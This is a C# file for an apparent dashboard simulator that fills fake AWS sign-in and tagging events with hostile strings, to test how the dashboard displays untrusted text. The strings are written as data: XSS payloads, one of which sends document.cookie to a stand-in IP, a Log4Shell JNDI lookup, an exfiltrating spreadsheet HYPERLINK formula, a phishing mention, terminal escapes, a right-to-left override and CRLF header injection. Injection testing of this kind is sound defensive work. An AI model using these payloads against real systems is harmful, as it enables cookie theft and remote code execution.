using Dashboard.Simulator.Estate.Signals;

namespace Dashboard.Simulator.Estate.Events;

/// <summary>Text that somebody else has written and that ends up in our tables: markup, formulas, escapes, mentions.</summary>
internal static class HostileEvents
{
    private static readonly string[] Agents =
    [
        "Mozilla/5.0 <script>alert(document.domain)</script>",
        "\"><img src=x onerror=fetch('//198.51.100.99/'+document.cookie)>",
        "${jndi:ldap://198.51.100.99:1389/a}",
        "=HYPERLINK(\"http://198.51.100.99/?\"&A1,\"open\")",
        "<!channel> <https://198.51.100.99|reset your password> *urgent*",
        "curl/8.5.0\u001b[2J\u001b[31mroot#\u001b[0m",
        "Googlebot/2.1 \u202Etxt.exe",
    ];

    public static void Write(ActivityBook book, Inventory inventory, People people)
    {
        var scanner = new Actor(new Principal.User("HIDDEN_DUE_TO_SECURITY_REASONS"), "203.0.113.199", Agents[0]);
        book.Routine(SimulatedAccounts.Production, SimulatedAccounts.Global, "signin:ConsoleLogin", Curves.Level(0.5), [scanner], draw => new Details
        {
            EventType = "AwsConsoleSignIn",
            UserAgent = draw.Of(Agents),
            Address = $"203.0.113.{draw.Number(190, 220)}",
            ErrorCode = "Failed authentication",
            ErrorMessage = "No username found in supplied account",
            Response = new { ConsoleLogin = "Failure" },
            Additional = new { LoginTo = "https://console.aws.amazon.com/console/home", MobileVersion = "No", MFAUsed = "No" },
        });
        book.Routine(SimulatedAccounts.Production, SimulatedAccounts.Home, "ec2:CreateTags", Curves.Weekly(WeekShape.Office, 0, 0.4), [people.Alice], draw =>
        {
            var instance = inventory.Instance(draw.Of(Inventory.Hosts));
            return new Details
            {
                Request = new
                {
                    resourcesSet = new { items = new[] { new { resourceId = instance } } },
                    tagSet = new { items = new[] { new { key = "Name", value = draw.Of(["</td><svg onload=alert(1)>", "=1+1", "web-01\r\nX-Injected: 1", "日本語 🦀 name", new string('A', 256)]) } } },
                },
                Resources = [("AWS::EC2::Instance", instance)],
            };
        });
    }
}
